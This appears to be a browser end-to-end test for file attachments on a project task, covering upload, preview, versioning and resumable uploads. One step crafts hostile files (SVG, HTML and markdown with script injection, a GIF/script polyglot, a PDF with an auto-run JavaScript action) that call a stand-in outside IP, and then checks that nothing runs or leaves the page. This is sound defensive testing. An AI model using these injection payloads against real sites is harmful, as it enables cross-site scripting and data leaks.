/** Files on a record: dropped, pasted, looked at, named, removed; and hostile ones that run nothing and call nobody. */
import assert from 'node:assert/strict'
import type { Page } from 'playwright-core'
import { inspect, journey } from './browser.ts'

interface Made {
  readonly name: string
  readonly type: string
  /** The content, each character a byte. */
  readonly bytes: string
}

/** A PNG of one pixel. */
const PIXEL = atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')
const PROGRAM = `MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0${'\0'.repeat(200)}`

/** Drops files on the page as the system's file manager does. */
async function drop(page: Page, files: readonly Made[]): Promise<void> {
  const data = await page.evaluateHandle((made) => {
    const transfer = new DataTransfer()
    for (const { name, type, bytes } of made)
      transfer.items.add(new File([Uint8Array.from(bytes, (c) => c.charCodeAt(0))], name, { type }))
    return transfer
  }, files)
  const target = page.locator('.recordMain')
  for (const event of ['dragenter', 'dragover']) await target.dispatchEvent(event, { dataTransfer: data })
  await page.locator('.dropHere').waitFor()
  await target.dispatchEvent('drop', { dataTransfer: data })
  await page.locator('.dropHere').waitFor({ state: 'detached' })
}

const text = (name: string, bytes = `Content of ${name}`): Made => ({ name, type: 'text/plain', bytes })
const file = (page: Page, name: string) => page.getByRole('button', { name, exact: true })

journey('Files on a record', (stage) => {
  let page: Page
  let task = ''
  const strangers: string[] = []
  const names = async () => page.locator('[data-file]').allInnerTexts()

  stage.step('a record without files says what they are for', async () => {
    page = await stage.administrator()
    // Whatever a file makes the browser ask somebody else for is seen here.
    page.context().on('request', (request) => {
      const { origin, protocol } = new URL(request.url())
      if (origin !== stage.url && protocol.startsWith('http')) strangers.push(request.url())
    })
    await stage.api(page, 'PATCH', '/api/platform/settings', { filesRefused: ['program'] })
    const { project } = await stage.api<{ project: string }>(page, 'POST', '/api/projects/paste', {
      name: 'Move of the archive',
      text: 'Pack\t3d\nCarry\t2d',
      start: '2027-03-01T08:00',
    })
    const { rows } = await stage.api<{ rows: { id: string }[] }>(
      page,
      'GET',
      `/api/projects/tasks?project=eq:${project}&name=eq:Carry`,
    )
    task = rows[0]!.id
    await page.goto(`${stage.url}/projects/tasks/${task}`)
    await page.getByRole('tab', { name: 'Files', exact: true }).click()
    await page.getByText('No files on this task yet').waitFor()
    await inspect(page, 'files-empty')
  })

  stage.step('ten files are dropped, one of them is refused, and nine are there', async () => {
    // A program under another name: the browser lets it pass, the server looks at its bytes.
    stage.pardon(/415|Failed to load resource/)
    const ten = [
      ...Array.from({ length: 7 }, (_, at) => text(`Protocol ${at + 1}.txt`)),
      { name: 'Shelf.png', type: 'image/png', bytes: PIXEL },
      text('Lists.csv', 'shelf;box\n1;12\n'),
      { name: 'Offer.pdf', type: 'application/pdf', bytes: PROGRAM },
    ]
    await drop(page, ten)
    await page.getByText('“Offer.pdf” is not taken: by its content it is a program').waitFor()
    await page.getByRole('tab', { name: 'Files 9' }).waitFor()
    await page.locator('.sendingLine.done').last().waitFor({ state: 'detached' })
    assert.deepEqual(
      (await names()).toSorted(),
      ten
        .slice(0, 9)
        .map(({ name }) => name)
        .toSorted(),
    )
    await inspect(page, 'files-one-refused')
    await page.getByRole('button', { name: 'Close the message about “Offer.pdf”' }).click()
  })

  stage.step('the keyboard opens, goes on, renames, removes and takes it back', async () => {
    await file(page, 'Lists.csv').focus()
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('Enter')
    const dialog = page.getByRole('dialog')
    await dialog.getByText('Content of Protocol 1.txt').waitFor()
    await inspect(page, 'files-preview')
    await page.keyboard.press('ArrowRight')
    await dialog.getByText('Content of Protocol 2.txt').waitFor()
    await page.keyboard.press('Escape')
    await dialog.waitFor({ state: 'detached' })
    assert.equal(new URL(page.url()).pathname, `/projects/tasks/${task}`, 'Escape closed the dialog and no more')
    await file(page, 'Protocol 1.txt').focus()
    await page.keyboard.press('F2')
    await dialog.getByRole('textbox', { name: 'Name' }).fill('Minutes.txt')
    await page.keyboard.press('Enter')
    await file(page, 'Minutes.txt').focus()
    await page.keyboard.press('Delete')
    await file(page, 'Minutes.txt').waitFor({ state: 'detached' })
    await page.keyboard.press('Control+z')
    await file(page, 'Minutes.txt').waitFor()
  })

  stage.step('a file of the same name is its next version; the older one can be restored', async () => {
    await drop(page, [text('Minutes.txt', 'Second edition')])
    await page.getByRole('button', { name: /v2 of “Minutes.txt”/ }).click()
    const dialog = page.getByRole('dialog')
    await dialog.getByRole('button', { name: 'Restore' }).waitFor()
    await inspect(page, 'files-versions')
    await dialog.getByRole('button', { name: 'Restore' }).click()
    await page.getByText('Version 1 is back, as version 3').waitFor()
    await page.keyboard.press('Escape')
    await dialog.waitFor({ state: 'detached' })
    await page.getByRole('tab', { name: 'Activity' }).click()
    await page.getByText(/Ines Falk restored\s+Minutes.txt\s+to version 1, which is now version 3/).waitFor()
    await page.getByRole('tab', { name: /Files/ }).click()
  })

  stage.step('a picture is pasted, and a line that is cut goes on by itself', async () => {
    stage.pardon(/ERR_/)
    let cuts = 2
    await page.route('**/api/platform/uploads/*', (route) =>
      route.request().method() === 'PATCH' && cuts-- > 0 ? route.abort('connectionreset') : route.continue(),
    )
    await page.evaluate((bytes) => {
      const transfer = new DataTransfer()
      transfer.items.add(new File([Uint8Array.from(bytes, (c) => c.charCodeAt(0))], 'image.png', { type: 'image/png' }))
      document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: transfer, bubbles: true, cancelable: true }))
    }, PIXEL)
    await page.getByText('the connection was lost; it goes on by itself').waitFor()
    await page.getByRole('button', { name: /^Pasted \d{4}-\d\d-\d\d .*\.png$/ }).waitFor()
    await page.unroute('**/api/platform/uploads/*')
  })

  stage.step('hostile files are shown, run nothing and call nobody', async () => {
    const mark = `window.owned=1;document.title='owned'`
    const elsewhere = 'http://198.51.100.7/'
    await drop(page, [
      {
        name: 'a drawing.svg',
        type: 'image/svg+xml',
        bytes: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${mark}"><script>${mark};fetch('${elsewhere}svg')</script><image href="${elsewhere}i.png" width="9" height="9"/><style>@import url(${elsewhere}s.css);</style><use href="${elsewhere}u.svg#a"/><rect width="90" height="90" fill="green"/></svg>`,
      },
      {
        name: 'b page.html',
        type: 'text/html',
        bytes: `<!doctype html><img src=x onerror="${mark}"><script src="${elsewhere}x.js"></script>`,
      },
      {
        name: 'c text.md',
        type: 'text/markdown',
        bytes: `# Title\n\n<script>${mark}</script>\n\n![i](${elsewhere}m.png) [l](javascript:${encodeURIComponent(mark)})`,
      },
      {
        name: 'd both.gif',
        type: 'image/gif',
        bytes: `GIF89a/*\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;*/=1;${mark}//`,
      },
      { name: 'e paper.pdf', type: 'application/pdf', bytes: hostilePdf(mark, elsewhere) },
    ])
    await page.getByRole('button', { name: 'e paper.pdf', exact: true }).waitFor()
    const dialog = page.getByRole('dialog')
    await file(page, 'a drawing.svg').click()
    await dialog.locator('img').waitFor()
    await page.waitForFunction(
      () => document.querySelector<HTMLImageElement>('.previewPicture img')?.naturalWidth === 90,
    )
    await page.keyboard.press('Escape')
    await file(page, 'b page.html').click()
    await dialog.getByText('<!doctype html>').waitFor()
    await page.keyboard.press('Escape')
    await file(page, 'c text.md').click()
    await dialog.getByRole('heading', { name: 'Title' }).waitFor()
    await page.keyboard.press('Escape')
    await file(page, 'd both.gif').click()
    await dialog.locator('.previewPicture, .previewNothing').waitFor()
    await page.keyboard.press('Escape')
    await file(page, 'e paper.pdf').click()
    await dialog.getByText('Harmless words').waitFor({ state: 'attached' })
    await inspect(page, 'files-pdf')
    await page.keyboard.press('Escape')
    assert.equal(await page.evaluate(() => 'owned' in window), false)
    assert.notEqual(await page.title(), 'owned')
    // Opened by themselves they are downloads, never pages.
    const { files } = await stage.api<{ files: { id: string; name: string }[] }>(
      page,
      'GET',
      `/api/platform/files?type=projects.task&id=${task}`,
    )
    for (const each of files.filter(({ name }) => /^[a-e] /.test(name))) {
      const ways = each.name.endsWith('.svg') ? ['content', 'image'] : ['content']
      for (const way of ways) {
        const other = await page.context().newPage()
        const arrives = other.waitForEvent('download')
        await other.goto(`${stage.url}/api/platform/files/${each.id}/${way}`).catch(() => {})
        await (await arrives).delete()
        assert.equal(other.url(), 'about:blank', `${each.name} by ${way}`)
        await other.close()
      }
    }
    assert.deepEqual(strangers, [], 'no request left the page for somebody else')
  })

  stage.step('it works on a phone', async () => {
    await page.setViewportSize({ width: 360, height: 740 })
    await inspect(page, 'files-phone')
    await page.getByRole('button', { name: 'As a grid' }).click()
    await inspect(page, 'files-phone-grid')
  })
})

/** A PDF that runs a script when it is opened, links to elsewhere, and names a file there. */
function hostilePdf(script: string, elsewhere: string): string {
  const content = 'BT /F1 24 Tf 20 100 Td (Harmless words) Tj ET'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}; app.alert\\(1\\); this.submitForm\\('${elsewhere}f'\\)) >> /AA << /WC << /S /URI /URI (${elsewhere}wc) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << /S /URI /URI (${elsewhere}o) >> >> /Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${elsewhere}l) >> >> ] >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  let pdf = '%PDF-1.7\n'
  const places: number[] = []
  for (const [at, object] of objects.entries()) {
    places.push(pdf.length)
    pdf += `${at + 1} 0 obj\n${object}\nendobj\n`
  }
  const table = pdf.length
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')}`
  return `${pdf}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`
}
